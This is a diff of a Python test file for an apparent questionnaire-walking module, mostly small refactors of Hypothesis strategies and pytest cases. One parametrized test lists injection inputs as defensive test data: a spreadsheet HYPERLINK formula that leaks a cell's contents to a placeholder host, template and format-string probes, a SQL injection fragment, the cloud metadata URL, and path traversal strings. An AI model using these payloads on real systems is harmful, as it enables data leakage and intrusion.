@@ -71,7 +71,7 @@ def questionnaires(draw: st.DrawFn) -> Questionnaire:
         kind = draw(st.sampled_from(Kind))
         before = [q for q in questions if q.kind in BRANCHING]
         when = None
-        if before and draw(st.booleans()):
+        if before and draw(st.sampled_from([True, False])):
             on = draw(st.sampled_from(before))
             when = When(on.id, frozenset({draw(st.sampled_from(SAMPLES[on.kind]))}))
         questions.append(
@@ -158,7 +158,7 @@ def step_of(form: Questionnaire, walk: Walk, move: Move) -> Step:
         "remove": lambda q, w: walker.remove(q, w, at, pick % 3, revision),
         "skip": lambda q, w: walker.skip(q, w, at),
         "keep": lambda q, w: walker.keep(q, w, at),
-        "back": lambda q, w: walker.back(q, w),
+        "back": walker.back,
         "edit": lambda q, w: walker.edit(q, w, at),
         "restart": lambda q, w: restarted(w),
     }
@@ -348,7 +348,8 @@ def test_a_button_that_removes_works_once_a_revision() -> None:
 @pytest.mark.parametrize("verb", ["remove", "another"])
 def test_parts_are_a_matter_of_free_texts_only(kind: Kind, verb: str) -> None:
     # Such a button is never shown; a forged one must not empty an answer that is needed.
-    walk = at(kind.value, **{kind.value: (SAMPLES[kind][0],)})
+    answers: Any = {kind.value: (SAMPLES[kind][0],)}
+    walk = at(kind.value, **answers)
     with pytest.raises(Refused):
         if verb == "remove":
             walker.remove(ONE_OF_EACH, walk, kind.value, 0, walk.revision)
@@ -676,7 +677,7 @@ def test_a_line_is_one_line(text: str) -> None:
     "text",
     [
         "=HYPERLINK(\"http://x/?\"&A1)", "-2+3", "@SUM(A1)", "＝1+1", "<b>", "<<b>", "&lt;",
-        "_*[](", "{{7*7}}", "%s", "{0.__class__}", "'; DROP TABLE", "ı", "é", "é", "/ѕtart",
+        "_*[](", "{{7*7}}", "%s", "{0.__class__}", "'; DROP TABLE", "ı", "\u00e9", "e\u0301", "/ѕtart",
         "http://169.254.169.254/", "../../x", "🙂", "a" + "\u0301" * 1000,
     ],
 )  # fmt: skip
